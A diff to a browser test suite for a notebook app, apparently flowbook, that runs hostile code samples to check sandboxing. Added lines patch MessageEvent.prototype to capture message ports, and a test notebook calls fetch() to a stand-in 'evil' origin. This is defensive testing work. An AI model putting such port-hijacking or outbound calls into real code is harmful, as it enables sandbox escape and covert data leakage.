@@ -86,6 +86,13 @@ test.describe("hostile code", () => {
       const ports = new Set();
       const post = MessagePort.prototype.postMessage;
       MessagePort.prototype.postMessage = function (...args) { ports.add(this); return post.apply(this, args) };
+      const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
+      Object.defineProperty(MessageEvent.prototype, "data", { get() {
+        if (this.currentTarget instanceof MessagePort) ports.add(this.currentTarget);
+        const value = data.get.call(this);
+        if (value?.port instanceof MessagePort) ports.add(value.port);
+        return value;
+      } });
       log("catches the engine's port");
       await db.query("SELECT 1");
       progress(1, 2);
@@ -155,7 +162,7 @@ test.describe("hostile code", () => {
     page,
   }) => {
     await openApp(page);
-    const markdown = `---\nflowbook: 1\ntitle: Drawn\n---\n\n\`\`\`js drawn\nfetch(${JSON.stringify(evil.origin)} + "/drawn").catch(() => {})\nconst t = task(() => 1)\nflow("Drawn", () => { fetch(${JSON.stringify(evil.origin)} + "/traced").catch(() => {}); return t() })\n\`\`\`\n`;
+    const markdown = `---\nflowbook: 1\ntitle: Drawn\n---\n\n\`\`\`js drawn\ntry { fetch(${JSON.stringify(evil.origin)} + "/drawn").catch(() => {}) } catch {}\nconst t = task(() => 1)\nflow("Drawn", () => { try { fetch(${JSON.stringify(evil.origin)} + "/traced").catch(() => {}) } catch {} ; return t() })\n\`\`\`\n`;
     const nodes = await page.evaluate(
       async ([text, origin]) => {
         await window.flowbook.open(text);
